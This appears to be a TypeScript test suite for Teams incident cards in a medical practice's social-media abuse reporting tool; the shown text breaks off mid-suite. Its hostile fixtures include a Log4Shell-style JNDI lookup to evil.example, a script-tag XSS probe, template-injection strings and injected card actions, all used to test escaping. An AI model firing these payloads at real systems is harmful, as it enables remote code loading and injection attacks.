import { describe, expect, it } from 'vitest';
import { CITED_DOCUMENTS } from '../../src/policy/sources.ts';
import { route, type Decision, type QuestionToReporter } from '../../src/domain/handling.ts';
import type { Incident, IncidentStatus } from '../../src/domain/incident.ts';
import type { Closure, Reopening, Task } from '../../src/domain/lifecycle.ts';
import { gradeReport, gradingFactsFrom, type Grading } from '../../src/domain/policy/grade.ts';
import type { Finding } from '../../src/domain/policy/guard.ts';
import { ATTESTATION_STATEMENT, attestationKey } from '../../src/domain/policy/reply-guard/attestation.ts';
import type { EvidenceFile, ReportFacts } from '../../src/domain/report.ts';
import { DEFAULT_POLICY } from '../../src/policy/default.ts';
import { evidencePackCard, incidentCard, plainText, reporterQuestionCard, reporterUpdateCard, type IncidentCardOptions } from '../../src/views/index.ts';
import { INCIDENT_INPUTS, INCIDENT_VERBS } from '../../src/contract/cards.ts';
import {
  DOWNLOAD_ACTION,
  INCIDENT_DATA_KEYS,
  TASK_DATA_KEYS,
  TEAMS_MAX_BYTES,
  actions,
  body,
  bytes,
  elements,
  inputById,
  inputs,
  problems,
  shape,
  siblings,
  textBlocks,
  texts,
  type Json,
} from '../support/cardChecks.ts';
import { contrast, contrastFailures, textColours } from '../support/contrast.ts';

// ---- sample data --------------------------------------------------------------------------------

const PRACTICE = 'Wickersley Medical Practice';
const REPORTED_AT = '2026-11-03T14:20:00Z';
const MANAGER = { aadObjectId: 'aad-manager', name: 'Pat Manager' };
const DEPUTY = { aadObjectId: 'aad-deputy', name: 'Dee Deputy' };
const DECIDER_IDS = ['29:1manager', '29:1deputy'];

const SCREENSHOT: EvidenceFile = {
  blobName: 'p1/d1/1.png',
  fileName: 'facebook review.png',
  contentType: 'image/png',
  size: 245_760,
  sha256: '9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08',
  receivedAt: '2026-11-03T14:05:00Z',
};

const FACTS: ReportFacts = {
  where: {
    platform: 'facebook',
    postUrl: 'https://www.facebook.com/groups/wickersley/posts/123456',
    seenAt: '2026-11-03T13:45:00.000Z',
    seenDate: '2026-11-03',
    seenTime: '13:45',
    authorName: 'Jay Smith',
    authorRelationship: 'patient',
  },
  what: {
    postText: 'Rudest receptionist ever at Wickersley surgery. She should be sacked.',
    categories: ['personal-attack', 'names-staff'],
    namedParties: ['practice', 'colleagues'],
    namedColleagues: 'The receptionist on Monday morning',
  },
  risk: { atRisk: false },
  evidence: { screenshots: [SCREENSHOT] },
};

/** A routed incident, graded by the default policy (version 1 after routing). */
function routed(facts: ReportFacts = FACTS, prior = 0, extra: Partial<NonNullable<Incident['handling']>> = {}): Incident {
  const reported: Incident = {
    practiceId: 'wickersley',
    reference: 'PW-2026-0042',
    status: 'reported',
    reportedAt: REPORTED_AT,
    reporter: { aadObjectId: 'aad-reporter', name: 'Sam Reception' },
    draftId: 'draft-7f3a',
    facts,
  };
  const incident = route(reported, gradeReport(DEFAULT_POLICY, gradingFactsFrom(facts, prior)), prior, new Date(REPORTED_AT));
  return { ...incident, handling: { ...incident.handling!, ...extra } };
}

const graded = (incident: Incident): Grading => incident.handling!.grading!;

function options(overrides: Partial<IncidentCardOptions> = {}): IncidentCardOptions {
  return {
    practiceName: PRACTICE,
    view: 'decider',
    refreshUserIds: DECIDER_IDS,
    now: new Date('2026-11-03T15:00:00Z'),
    assignees: [MANAGER, DEPUTY],
    documents: CITED_DOCUMENTS,
    replyFindings: [],
    replyText: 'Thank you for letting us know. Please contact the practice directly so we can look into this.',
    ...overrides,
  };
}

const DECISIONS: Record<string, Decision> = {
  'no response': { kind: 'no-response', by: MANAGER, at: '2026-11-03T15:10:00Z', reason: 'A reply would draw attention to the post.' },
  'public reply': {
    kind: 'public-reply',
    by: MANAGER,
    at: '2026-11-03T15:10:00Z',
    replyText: 'Thank you for your feedback. Please contact the practice directly.',
    reporterPostsReply: true,
  },
  actions: { kind: 'actions', by: MANAGER, at: '2026-11-03T15:10:00Z', actions: ['report-to-platform', 'support-colleague'] },
};

const decided = (decision: Decision, facts = FACTS) => routed(facts, 0, { decision, version: 2 });

// ---- hostile, worst-case data -------------------------------------------------------------------

const HOSTILE_LINES = [
  '${jndi:ldap://evil.example/a}',
  '${$root.x} ${$root.reference} ${data.practiceId} ${errors.reason}',
  '[click](http://evil.example)',
  '**bold** _em_ ~~strike~~',
  '# heading',
  '- list',
  '1. ordered',
  '<at>Dr Patel</at>',
  '`code`',
  '{"type":"Action.OpenUrl","url":"http://evil.example","title":"Open"}',
  '{"type":"Input.Text","id":"reason","label":"x"}',
  '<script>alert(1)</script> & | \\',
];
const HOSTILE = HOSTILE_LINES.join('\n');
const HOSTILE_POST = (HOSTILE + '\n').repeat(40).slice(0, 8_000);
const HOSTILE_SHORT = '[me](http://evil.example) **${$root.reference}** <at>x</at>';

function hostileFacts(screenshots = 20): ReportFacts {
  return {
    where: { ...FACTS.where, postUrl: `https://evil.example/${'[x](http://evil.example)'.repeat(40)}`, authorName: HOSTILE_SHORT },
    what: { ...FACTS.what, postText: HOSTILE_POST, namedColleagues: HOSTILE.slice(0, 500) },
    risk: { atRisk: true, riskDetails: (HOSTILE + '\n').repeat(10).slice(0, 2_000) },
    evidence: {
      screenshots: Array.from({ length: screenshots }, (_, i) => ({
        ...SCREENSHOT,
        blobName: `p1/d1/${i}.png`,
        fileName: `[shot ${i}](http://evil.example) \${f} <b>.png`,
      })),
    },
  };
}

const hostileQuestions = (n: number, answered = true): QuestionToReporter[] =>
  Array.from({ length: n }, (_, i) => ({
    askedBy: { aadObjectId: 'aad-manager', name: HOSTILE_SHORT },
    askedAt: `2026-11-03T15:0${i}:00Z`,
    question: (HOSTILE + ' ').repeat(5).slice(0, 500),
    ...(answered ? { answer: (HOSTILE + ' ').repeat(20).slice(0, 2_000), answeredAt: `2026-11-03T16:0${i}:00Z` } : {}),
  }));

const HOSTILE_REPLY = ('Thank you. Our patient [Dr Patel](http://evil.example) ${$root.x} <at>x</at> 01709 123456. ').repeat(12).slice(0, 1_000);

function hostileFindings(reply: string): Finding[] {
  const at = (needle: string) => reply.indexOf(needle);
  return [
    ...Array.from({ length: 6 }, (_, i): Finding => ({
      rule: 'possible-staff-name',
      severity: 'advisory',
      message: `"${HOSTILE_SHORT}" looks like a person's name. ${'x'.repeat(150)} ${i}`,
      start: i,
      end: i + 10,
    })),
    { rule: 'confirms-patient-relationship', severity: 'blocking', message: '"Our patient" confirms that the person is a patient.', start: at('Our patient'), end: at('Our patient') + 11 },
    { rule: 'staff-name', severity: 'blocking', message: `"[Dr Patel](http://evil.example)" names a member of staff.`, start: at('[Dr Patel]'), end: at('[Dr Patel]') + 31 },
    { rule: 'phone-number', severity: 'blocking', message: '"01709 123456" is a phone number.', start: at('01709'), end: at('01709') + 12 },
    { rule: 'too-long', severity: 'advisory', message: '160 words: the brief reply is at most 80.', start: 400, end: 1_000 },
  ];
}

const ALL_ERRORS: Record<string, string> = Object.fromEntries(
  Object.values(INCIDENT_INPUTS).map((id) => [id, `Problem with ${id}: [fix](http://evil.example) \${$root.x}`]),
);

function hostileIncident(opts: { decision?: Decision; questions?: number; screenshots?: number } = {}): Incident {
  const incident = routed(hostileFacts(opts.screenshots), 3, {
    questions: hostileQuestions(opts.questions ?? 6),
    assignedTo: { aadObjectId: 'aad-deputy', name: HOSTILE_SHORT },
    version: 7,
    ...(opts.decision ? { decision: opts.decision } : {}),
  });
  return { ...incident, reporter: { aadObjectId: 'aad-reporter', name: HOSTILE_SHORT } };
}

function hostileOptions(view: IncidentCardOptions['view']): IncidentCardOptions {
  return options({
    view,
    practiceName: '[Evil](http://evil.example) ${$root.reference}',
    assignees: [{ aadObjectId: 'aad-deputy', name: HOSTILE_SHORT }, MANAGER],
    replyText: HOSTILE_REPLY,
    replyFindings: hostileFindings(HOSTILE_REPLY),
    errors: ALL_ERRORS,
    notice: { tone: 'attention', text: HOSTILE_SHORT },
  });
}

/** Everything a person typed that ends up on the worst-case cards (their `${` is data). */
const USER_TEXT = [
  HOSTILE,
  HOSTILE_POST,
  HOSTILE_SHORT,
  HOSTILE_REPLY,
  '[Evil](http://evil.example) ${$root.reference}',
  ...Object.values(ALL_ERRORS),
  ...hostileFacts().evidence.screenshots.map((s) => s.fileName),
];

// ---- helpers ------------------------------------------------------------------------------------

/** The decision options: in the body's "decisions" ActionSet, straight after the headline. */
const decisionActions = (card: Json) => [
  ...((card.actions as Json[] | undefined) ?? []),
  ...((body(card).find((e) => e.id === 'decisions')?.actions as Json[] | undefined) ?? []),
];
const showCards = (card: Json) => decisionActions(card).filter((a) => a.type === 'Action.ShowCard');
/** A decision option by its title; "Public reply" also finds "Public reply (not advised)". */
const showCard = (card: Json, title: string) => showCards(card).find((a) => a.title === title || String(a.title).startsWith(`${title} (`));
const plainTitle = (title: unknown) => String(title).replace(/ \(not advised\)$/, '');
const executes = (card: Json) => actions(card).filter((a) => a.type === 'Action.Execute');
const decisionExecutes = (card: Json) => executes(card).filter((a) => a.verb !== INCIDENT_VERBS.refresh && a.verb !== INCIDENT_VERBS.pack);
const verbsIn = (node: Json) => executes(node).map((a) => a.verb);
const section = (card: Json, id: string) => body(card).find((e) => e.type === 'Container' && e.id === id);
const all = (card: Json) => texts(card).join('\n') + '\n' + JSON.stringify(elements(card).filter((e) => e.type === 'FactSet'));
const fact = (card: Json, title: string) =>
  elements(card)
    .filter((e) => e.type === 'FactSet')
    .flatMap((f) => f.facts as Array<{ title: string; value: string }>)
    .find((f) => f.title === title)?.value;

/** The incident contract: every Execute carries exactly the ids, with this version. */
function expectIncidentData(card: Json, incident: Incident, version: number): void {
  for (const a of executes(card)) {
    expect(Object.keys(a.data as Json).sort()).toEqual([...INCIDENT_DATA_KEYS].sort());
    expect(a.data).toEqual({ practiceId: incident.practiceId, reference: incident.reference, version });
  }
}

/** Markdown that would still take effect in shown text. */
function liveMarkdown(text: string): string[] {
  return [...text.matchAll(/(^|[^\\])((?:\\\\)*)(\[click\]|\*\*bold|<script>|<at>|\[Evil\]|\[me\]|\[fix\]|\[shot|\[Dr Patel\])/gm)].map((m) => m[3]!);
}

// ---- every variant is a valid card ----------------------------------------------------------------

describe('incident card: every variant is a valid Teams card', () => {
  const variants: Array<[string, () => [Incident, IncidentCardOptions]]> = [
    ['decider, undecided', () => [routed(), options()]],
    ['read-only, undecided', () => [routed(), options({ view: 'readonly' })]],
    ...Object.entries(DECISIONS).flatMap(([name, decision]): Array<[string, () => [Incident, IncidentCardOptions]]> => [
      [`decider, decided (${name})`, () => [decided(decision), options()]],
      [`read-only, decided (${name})`, () => [decided(decision), options({ view: 'readonly' })]],
    ]),
    ['decider, errors on every input', () => [routed(), options({ errors: ALL_ERRORS })]],
    ['decider, blocking and advisory findings', () => [routed(), options({ replyText: HOSTILE_REPLY, replyFindings: hostileFindings(HOSTILE_REPLY) })]],
    ['decider, at risk', () => [routed({ ...FACTS, risk: { atRisk: true, riskDetails: 'He said he would wait outside.' } }), options()]],
    ['decider, not routed yet', () => [{ ...routed(), handling: undefined }, options()]],
    ['decider, worst case', () => [hostileIncident(), hostileOptions('decider')]],
    ['read-only, worst case', () => [hostileIncident(), hostileOptions('readonly')]],
    ['decider, worst case, decided', () => [hostileIncident({ decision: { ...DECISIONS['public reply']!, replyText: HOSTILE_REPLY } }), hostileOptions('decider')]],
    ['decider, worst case, 10 questions and 25 screenshots', () => [hostileIncident({ questions: 10, screenshots: 25 }), hostileOptions('decider')]],
  ];

  it.each(variants)('%s', (_, make) => {
    const [incident, opts] = make();
    const card = incidentCard(incident, opts);
    expect(problems(card, { userText: USER_TEXT })).toEqual([]);
    expect(bytes(card)).toBeLessThan(TEAMS_MAX_BYTES);
    expect(card.version).toBe('1.5');
    expect(card.$schema).toBe('http://adaptivecards.io/schemas/adaptive-card.json');
    expect(card.refresh).toEqual({
      action: { type: 'Action.Execute', title: 'Refresh', verb: INCIDENT_VERBS.refresh, data: { practiceId: incident.practiceId, reference: incident.reference, version: incident.handling?.version ?? 0 } },
      userIds: DECIDER_IDS,
    });
    expectIncidentData(card, incident, incident.handling?.version ?? 0);
    // Narrow phones: no columns anywhere.
    expect(elements(card).filter((e) => e.type === 'ColumnSet')).toEqual([]);
    const decisionTaken = incident.handling?.decision !== undefined;
    if (opts.view === 'readonly' || decisionTaken) {
      expect(inputs(card)).toEqual([]);
      expect(decisionExecutes(card)).toEqual([]);
      expect(showCards(card)).toEqual([]);
    } else {
      expect(inputs(card).length).toBeGreaterThan(0);
      for (const verb of verbsIn(card)) expect(Object.values(INCIDENT_VERBS)).toContain(verb);
    }
  });

  it('the worst case is cut to fit: the post is shortened, with a note, and the full text is kept', () => {
    const card = incidentCard(hostileIncident(), hostileOptions('decider'));
    expect(bytes(card)).toBeLessThan(TEAMS_MAX_BYTES);
    const shown = texts(card).find((t) => t.startsWith(plainText(HOSTILE_POST.slice(0, 100))));
    expect(shown).toBeDefined();
    expect(shown!.length).toBeLessThan(plainText(HOSTILE_POST).length);
    expect(texts(card).find((t) => t.startsWith('Showing the first'))).toMatch(/^Showing the first [\d,]+ of 8,000 characters\. The full text is kept\.$/);
  });

  it('10 questions and 25 screenshots: the most recent questions are shown and the rest counted, as are the screenshots', () => {
    const card = incidentCard(hostileIncident({ questions: 10, screenshots: 25 }), hostileOptions('decider'));
    const asked = texts(card).filter((t) => t.startsWith('Asked by '));
    expect(asked.length).toBeGreaterThanOrEqual(3);
    expect(asked.at(-1)).toMatch(/, 3 Nov 2026, 15:09$/);
    expect(asked.length).toBeLessThan(10);
    expect(texts(card)).toContain(`${10 - asked.length} earlier questions and their answers are kept in the record.`);
    const listed = texts(card).filter((t) => t.includes('SHA-256 9f86d081884c')).length;
    expect(texts(card)).toContain(`And ${25 - listed} more screenshots, all saved.`);
  });

  it('a short post is shown whole, with no note', () => {
    const card = incidentCard(routed(), options());
    expect(texts(card)).toContain(plainText(FACTS.what.postText));
    expect(all(card)).not.toContain('Showing the first');
  });
});

// ---- the checker catches what it must, inside ShowCards too --------------------------------------

describe('the card checker, on incident cards', () => {
  const good = () => incidentCard(routed(), options());
  const subBody = (c: Json) => ((showCards(c)[0]!.card as Json).body as Json[]);
  const firstExecuteData = (c: Json) => (executes(c).find((a) => a.verb !== INCIDENT_VERBS.refresh)!.data as Json);
  const broken: Array<[string, (c: Json) => void, RegExp]> = [
    ['an unknown element inside a ShowCard', (c) => subBody(c).push({ type: 'Graph' }), /parse/],
    ['a bad property inside a ShowCard', (c) => subBody(c).push({ type: 'TextBlock', text: 'x', size: 'Gigantic' }), /parse|validate/],
    ['an input without an id inside a ShowCard', (c) => subBody(c).push({ type: 'Input.Text', label: 'X' }), /parse|validate/],
    ['an unlabelled input inside a ShowCard', (c) => subBody(c).push({ type: 'Input.Text', id: 'x2' }), /has no label/],
    ['a duplicate input id across ShowCards', (c) => subBody(c).push({ type: 'Input.Text', id: 'question', label: 'Again' }), /validate/],
    ['an unknown verb inside a ShowCard', (c) => subBody(c).push({ type: 'ActionSet', actions: [{ type: 'Action.Execute', title: 'X', verb: 'incident.delete', data: { practiceId: 'p', reference: 'r', version: 1 } }] }), /unknown verb/],
    ['a role in action data', (c) => (firstExecuteData(c).role = 'manager'), /not exactly/],
    ['a missing version', (c) => delete firstExecuteData(c).version, /not exactly|version/],
    ['a version sent as text', (c) => (firstExecuteData(c).version = '1'), /version is not a whole number/],
    ['report data on an incident verb', (c) => subBody(c).push({ type: 'ActionSet', actions: [{ type: 'Action.Execute', title: 'X', verb: INCIDENT_VERBS.ask, data: { draftId: 'd' } }] }), /not exactly/],
    ['an OpenUrl action', (c) => ((c.actions ??= []) as Json[]).push({ type: 'Action.OpenUrl', title: 'X', url: 'https://evil.example' }), /only Action.Execute/],
    ['a refresh with the wrong verb', (c) => ((c.refresh as Json).action = { type: 'Action.Execute', title: 'R', verb: 'report.next' }), /refresh/],
    ['a refresh for 61 users', (c) => ((c.refresh as Json).userIds = Array.from({ length: 61 }, (_, i) => `29:${i}`)), /Teams takes 60/],
    ['version 1.6', (c) => (c.version = '1.6'), /above what Teams renders/],
    ['a template left unexpanded inside a ShowCard', (c) => subBody(c).push({ type: 'TextBlock', text: '${reason}' }), /unexpanded/],
  ];
  it('user text does not hide a template left unexpanded', () => {
    const card = structuredClone(good());
    body(card).push({ type: 'TextBlock', text: 'Reference ${reference}' });
    expect(problems(card, { userText: USER_TEXT }).join('\n')).toMatch(/unexpanded/);
    const shortened = structuredClone(good());
    body(shortened).push({ type: 'TextBlock', text: plainText(HOSTILE.slice(0, 40)) + '…' });
    expect(problems(shortened, { userText: USER_TEXT })).toEqual([]);
  });
  it('passes the good card', () => expect(problems(good())).toEqual([]));
  it.each(broken)('catches %s', (_, breakIt, expected) => {
    const card = structuredClone(good());
    breakIt(card);
    expect(problems(card).join('\n')).toMatch(expected);
  });
});

// ---- header ---------------------------------------------------------------------------------------

describe('incident card header', () => {
  it('reference, practice, severity, status, reported, reporter and time to decide', () => {
    const incident = routed();
    const card = incidentCard(incident, options({ now: new Date('2026-11-03T14:40:00Z') }));
    expect(textBlocks(card).find((t) => t.text === 'PW-2026-0042')).toMatchObject({ size: 'Large', weight: 'Bolder' });
    expect(texts(card)).toContain(PRACTICE);
    expect(texts(card)).toContain('Awaiting decision · reported 3 Nov 2026, 14:20 by Sam Reception');
    expect(texts(card)).toContain('Facebook post by Jay Smith (patient): Personal attack or insult; Names or identifies staff. It names the practice, named colleagues.');
    const hours = graded(incident).decisionTargetHours;
    const due = textBlocks(card).find((t) => String(t.text).startsWith('Decision due in'));
    expect(hours).toBe(8); // personal attack naming staff: high under the default policy
    expect(due?.text).toBe('Decision due in 7 h 40 min, by 3 Nov 2026, 22:20');
  });

  /** The severity strip: a styled container whose text keeps the default colour. */
  const strip = (card: Json) => (section(card, 'headline')!.items as Json[]).find((e) => e.type === 'Container')!;

  it.each([
    ['2026-11-03T19:00:00Z', 'Decision due in 3 h 20 min, by 3 Nov 2026, 22:20'],
    ['2026-11-03T21:50:00Z', 'Decision due in 30 min, by 3 Nov 2026, 22:20'],
    ['2026-11-03T22:20:00Z', 'Decision due now (3 Nov 2026, 22:20)'],
    ['2026-11-03T23:25:00Z', 'Decision overdue by 1 h 5 min (due 3 Nov 2026, 22:20)'],
  ])('at %s: "%s", in the severity strip, default-coloured', (now, text) => {
    const card = incidentCard(routed(), options({ now: new Date(now) }));
    expect(graded(routed()).severity).toBe('medium');
    expect(texts(strip(card))).toEqual(['Medium severity', text]);
    // Medium: a warning strip; due now or overdue: attention.
    expect(strip(card).style).toBe(text.startsWith('Decision due in') ? 'warning' : 'attention');
    expect(textBlocks(strip(card)).every((t) => t.color === undefined)).toBe(true);
  });

  it.each([
    ['critical', '2026-11-03T14:30:00Z', 'attention'],
    ['high', '2026-11-03T14:30:00Z', 'attention'],
    ['medium', '2026-11-03T14:30:00Z', 'warning'],
    ['low', '2026-11-03T14:30:00Z', 'emphasis'],
    ['low', '2026-11-04T23:30:00Z', 'attention'],
  ] as const)('%s severity at %s: a strip styled %s, text in the default colour', (severity, now, style) => {
    const incident = routed();
    const card = incidentCard({ ...incident, handling: { ...incident.handling!, grading: { ...graded(incident), severity } } }, options({ now: new Date(now) }));
    const label = severity.charAt(0).toUpperCase() + severity.slice(1) + ' severity';
    expect(texts(strip(card))[0]).toBe(label);
    expect(strip(card).style).toBe(style);
    expect(textBlocks(card).filter((t) => t.color !== undefined && t.color !== 'Default')).toEqual([]);
  });

  it('URGENT banner under the one-line summary, above the decision buttons, when someone may be at risk', () => {
    const card = incidentCard(routed({ ...FACTS, risk: { atRisk: true } }), options({ notice: { tone: 'good', text: 'Reply checked.' } }));
    expect(texts(body(card)[0]!)).toEqual(['Reply checked.']);
    expect(body(card)[1]!.id).toBe('headline');
    expect(body(card)[2]).toMatchObject({ type: 'Container', style: 'attention' });
    expect(texts(body(card)[2]!)[0]).toBe('URGENT: someone may be at risk');
    const decisions = body(card).findIndex((e) => e.id === 'decisions');
    expect(decisions).toBeGreaterThan(2);
    expect(fact(card, 'Anyone at risk')).toBe('Yes: someone may be at risk of harm');
  });

  it('no URGENT banner otherwise', () => {
    expect(all(incidentCard(routed(), options()))).not.toContain('URGENT');
  });

  it.each(Object.entries(DECISIONS))('once decided (%s): who, when and what, in place of the time left', (name, decision) => {
    const incident = decided(decision);
    for (const view of ['decider', 'readonly'] as const) {
      const card = incidentCard(incident, options({ view }));
      const label = { 'no response': 'No response', 'public reply': 'Brief public reply approved', actions: 'Actions chosen' }[name];
      expect(texts(card)).toContain(`Decided by Pat Manager on 3 Nov 2026, 15:10: ${label}`);
      expect(all(card)).not.toMatch(/Decision (due|overdue)/);
    }
    const details = texts(incidentCard(incident, options()));
    const said = {
      'no response': ['Reason: A reply would draw attention to the post.'],
      'public reply': ['Approved reply: Thank you for your feedback. Please contact the practice directly.', 'The reporter is asked to post it.'],
      actions: ['Actions: Report the post to the platform; Support the colleague who was targeted'],
    }[name]!;
    expect(details).toEqual(expect.arrayContaining(said));
  });

  it('shows who it is assigned to', () => {
    expect(texts(incidentCard(routed(FACTS, 0, { assignedTo: DEPUTY }), options()))).toContain('Assigned to Dee Deputy');
  });

  it('version in the action data is the handling version, 0 for an incident not yet routed', () => {
    const card = incidentCard(routed(FACTS, 0, { version: 12 }), options());
    expectIncidentData(card, routed(), 12);
    const unrouted = { ...routed(), handling: undefined };
    const card0 = incidentCard(unrouted, options());
    expectIncidentData(card0, unrouted, 0);
    expect(texts(card0)).toContain('Not graded yet');
  });
});

// ---- evidence -------------------------------------------------------------------------------------

describe('incident card evidence', () => {
  it('platform, link as escaped text, seen, author and who they are', () => {
    const url = 'https://evil.example/[click](http://evil.example)';
    const card = incidentCard(routed({ ...FACTS, where: { ...FACTS.where, postUrl: url } }), options());
    expect(fact(card, 'Platform')).toBe('Facebook');
    expect(fact(card, 'Link')!.replace(/\u200b/g, '')).toBe(plainText(url));
    expect(fact(card, 'Link')).toContain('/\u200b'); // a long link wraps on a phone
    expect(fact(card, 'Seen')).toBe('Tue 3 Nov 2026, 13:45');
    expect(fact(card, 'Author')).toBe('Jay Smith');
    expect(fact(card, 'Who the author is')).toBe('Patient');
    expect(actions(card).filter((a) => a.type === 'Action.OpenUrl')).toEqual([]);
  });

  it.each([
    [0, 'First post by this author', undefined],
    [1, '1 earlier post by this author — possible harassment (BMA)', '1 earlier post by this author reported — possible harassment (BMA)'],
    [2, '2 earlier posts by this author — possible harassment (BMA)', '2 earlier posts by this author reported — possible harassment (BMA)'],
  ])('%i earlier posts: "%s", flagged in the headline in bold default-coloured text', (prior, text, flag) => {
    const card = incidentCard(routed(FACTS, prior), options());
    expect(textBlocks(card).find((t) => t.text === text)).toBeDefined();
    const headline = texts(section(card, 'headline')!);
    if (flag) expect(textBlocks(section(card, 'headline')!).find((t) => t.text === flag)).toMatchObject({ weight: 'Bolder' });
    else expect(headline.join('\n')).not.toContain('earlier post');
    expect(textBlocks(card).filter((t) => t.color !== undefined && t.color !== 'Default')).toEqual([]);
  });

  it('an unnamed author cannot be matched with earlier posts', () => {
    const card = incidentCard(routed({ ...FACTS, where: { ...FACTS.where, authorName: undefined } }), options());
    expect(fact(card, 'Author')).toBe('Not given');
    expect(texts(card)).toContain('Author not known, so earlier posts cannot be matched');
  });

  it('categories, who is named, risk answer and details', () => {
    const card = incidentCard(routed({ ...FACTS, risk: { atRisk: false, riskDetails: '**not** really' } }), options());
    expect(fact(card, 'What it does')).toBe('Personal attack or insult, Names or identifies staff');
    expect(fact(card, 'Who it names')).toBe('The practice, Named colleagues');
    expect(fact(card, 'Colleagues named')).toBe('The receptionist on Monday morning');
    expect(fact(card, 'Anyone at risk')).toBe('No');
    expect(fact(card, 'Risk details')).toBe('\\*\\*not\\*\\* really');
  });

  it('screenshots: file name, size and the first 12 hex of the SHA-256', () => {
    const card = incidentCard(routed(), options());
    expect(texts(card)).toContain('1 screenshot, saved with their SHA-256 hashes');
    expect(texts(card)).toContain('facebook review.png — 240 KB, received 3 Nov 2026, 14:05, SHA-256 9f86d081884c');
  });

  it('20 screenshots are listed; more are counted', () => {
    const twenty = incidentCard(hostileIncident({ screenshots: 20 }), hostileOptions('readonly'));
    expect(texts(twenty).filter((t) => t.includes('SHA-256 9f86d081884c'))).toHaveLength(20);
    expect(all(twenty)).not.toContain('more screenshot');
    const many = incidentCard(hostileIncident({ screenshots: 25 }), hostileOptions('readonly'));
    expect(texts(many).filter((t) => t.includes('SHA-256 9f86d081884c'))).toHaveLength(20);
    expect(texts(many)).toContain('And 5 more screenshots, all saved.');
  });

  it('no screenshot: the reason, escaped', () => {
    const card = incidentCard(routed({ ...FACTS, evidence: { screenshots: [], noScreenshotReason: '[deleted](http://evil.example)' } }), options());
    expect(texts(card)).toContain('No screenshot: \\[deleted\\](http://evil.example)');
  });

  it('questions to the reporter with their answers, in order', () => {
    const questions: QuestionToReporter[] = [
      { askedBy: MANAGER, askedAt: '2026-11-03T15:00:00Z', question: 'Did you see who posted it?', answer: 'Yes, **Jay**.', answeredAt: '2026-11-03T15:30:00Z' },
      { askedBy: DEPUTY, askedAt: '2026-11-03T16:00:00Z', question: 'Is it still up?' },
    ];
    const card = incidentCard(routed(FACTS, 0, { questions }), options({ view: 'readonly' }));
    const list = texts(card);
    const start = list.indexOf('Questions to the reporter');
    expect(start).toBeGreaterThan(0);
    expect(list.slice(start + 1, start + 7)).toEqual([
      'Asked by Pat Manager, 3 Nov 2026, 15:00',
      'Did you see who posted it?',
      'Answer (3 Nov 2026, 15:30): Yes, \\*\\*Jay\\*\\*.',
      'Asked by Dee Deputy, 3 Nov 2026, 16:00',
      'Is it still up?',
      'Not answered yet.',
    ]);
  });

  it('no questions section when none were asked', () => {
    expect(texts(incidentCard(routed(), options()))).not.toContain('Questions to the reporter');
  });
});

// ---- grading --------------------------------------------------------------------------------------

describe('incident card grading', () => {
  it('the top three recommended actions with their reasons above the fold; all of them, with sources, behind "Show all N"', () => {
    const incident = routed({ ...FACTS, risk: { atRisk: true } }, 2);
    const grading = graded(incident);
    expect(grading.actions.length).toBeGreaterThan(3);
    const card = incidentCard(incident, options());
    const top = body(card).find((e) => texts(e)[0] === `Recommended first (3 of ${grading.actions.length})`)!;
    expect(top).toBeDefined();
    expect(texts(top).slice(2)).toEqual(grading.actions.slice(0, 3).flatMap((a, i) => [plainText(`${i + 1}. ${a.title}`), plainText(a.reason)]));
    expect(all(top)).not.toContain('Source: ');
    const toggle = actions(card).find((a) => a.type === 'Action.ToggleVisibility' && a.title === `Show all ${grading.actions.length} recommended actions`)!;
    expect(toggle.targetElements).toEqual(['all-actions']);
    const hidden = section(card, 'all-actions')!;
    expect(hidden.isVisible).toBe(false);
    const list = texts(hidden);
    let last = -1;
    grading.actions.forEach((a, i) => {
      const at = list.indexOf(plainText(`${i + 1}. ${a.title}`));
      expect(at).toBeGreaterThan(last);
      expect(list[at + 1]).toBe(plainText(a.reason));
      expect(list[at + 2]).toMatch(/^Source: /);
      expect(list[at + 2]!.length).toBeLessThan(140);
      last = at;
    });
    expect(texts(card)).toContain('Decide within 1 h of the report. ' + `${grading.actions.length} recommended actions, most important first.`);
  });

  const OTHER_PRACTICES = /Wickersley|Millbrook|Cockhedge|Caergwrle/;
  /** A post that names no practice, so any practice's name on the card comes from the card itself. */
  const NEUTRAL: ReportFacts = { ...FACTS, what: { ...FACTS.what, postText: 'Rudest receptionist ever. She should be sacked.' }, risk: { atRisk: true } };

  it('sources name the guidance, and a practice policy as "the default policy", with its sources named once at the end', () => {
    const card = incidentCard(routed(NEUTRAL, 2), options({ practiceName: 'Riverside Surgery', replyText: 'Thank you.' }));
    const sources = texts(card).filter((t) => t.startsWith('Source: '));
    expect(sources).toEqual(expect.arrayContaining([expect.stringMatching(/^Source: the default policy, /), expect.stringMatching(/^Source: (LMC guidance|BMA), /)]));
    expect(sources.join('\n')).not.toMatch(OTHER_PRACTICES);
    const named = texts(card).filter((t) => OTHER_PRACTICES.test(t));
    expect(named).toHaveLength(1);
    expect(named[0]).toMatch(/^The default policy's sections are drawn from the social media policies of /);
  });

  it("a practice with its own policy reads \"Riverside Surgery's social media policy\", and no other practice's name", () => {
    const card = incidentCard(routed(NEUTRAL, 2), options({ practiceName: 'Riverside Surgery', ownPolicy: true, replyText: 'Thank you.' }));
    expect(texts(card).filter((t) => t.startsWith("Source: Riverside Surgery's social media policy, ")).length).toBeGreaterThan(0);
    expect(all(card)).not.toMatch(OTHER_PRACTICES);
  });

  it('policy warnings: counted on their button, in an attention-styled container, default-coloured', () => {
    const incident = routed({ ...FACTS, risk: { atRisk: true } });
    const warnings = graded(incident).warnings;
    expect(warnings.length).toBeGreaterThan(0);
    const card = incidentCard(incident, options({ view: 'readonly' }));
    expect(actions(card).find((a) => a.title === `Warnings (${warnings.length})`)).toMatchObject({ type: 'Action.ToggleVisibility', targetElements: ['warnings'] });
    const box = section(card, 'warnings')!;
    expect(box).toMatchObject({ style: 'attention', isVisible: false });
    for (const w of warnings) expect(textBlocks(box).find((t) => t.text === plainText(w.text))).toBeDefined();
    expect(textBlocks(box).filter((t) => t.color !== undefined)).toEqual([]);
  });
});

// ---- deciding -------------------------------------------------------------------------------------

describe('incident card decider view', () => {
  const SECTIONS: Array<[string, string[], string[]]> = [
    ['No response', [INCIDENT_INPUTS.reason], [INCIDENT_VERBS.noResponse]],
    ['Public reply', [INCIDENT_INPUTS.replyText, INCIDENT_INPUTS.reporterPostsReply], [INCIDENT_VERBS.checkReply, INCIDENT_VERBS.approveReply]],
    ['Choose actions', [INCIDENT_INPUTS.actions], [INCIDENT_VERBS.chooseActions]],
    ['Assign', [INCIDENT_INPUTS.assignee], [INCIDENT_VERBS.assign]],
    ['Ask the reporter', [INCIDENT_INPUTS.question], [INCIDENT_VERBS.ask]],
